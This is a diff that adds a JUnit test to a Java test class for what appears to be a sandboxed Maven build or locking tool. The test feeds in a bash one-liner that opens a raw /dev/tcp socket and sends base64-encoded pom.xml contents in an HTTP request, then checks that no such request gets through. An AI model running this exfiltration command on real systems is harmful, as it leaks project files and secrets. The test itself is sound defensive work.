@@ -232,6 +232,16 @@ class LockerTest {
         .hasMessageContaining("assay lock");
   }
 
+  /** A build that knows the way out of the sandbox. */
+  @Test
+  void nothingButPathsOfARepositoryIsAskedFor() throws Exception {
+    String ask =
+        "bash -c \"exec 3<>/dev/tcp/127.0.0.1/39391; printf \\\"GET /source/%s HTTP/1.0\\r\\n\\r\\n\\\""
+            + " `base64 -w0 pom.xml | head -c 40` >&3; head -1 <&3\"";
+    bench.record(ask + " && mvn validate");
+    assertThat(repository.asked).isNotEmpty().noneMatch(path -> path.startsWith("source"));
+  }
+
   @Test
   void aSnapshotIsRefused() throws Exception {
     repository.pom("org.other", "parent", "1-SNAPSHOT", "pom");
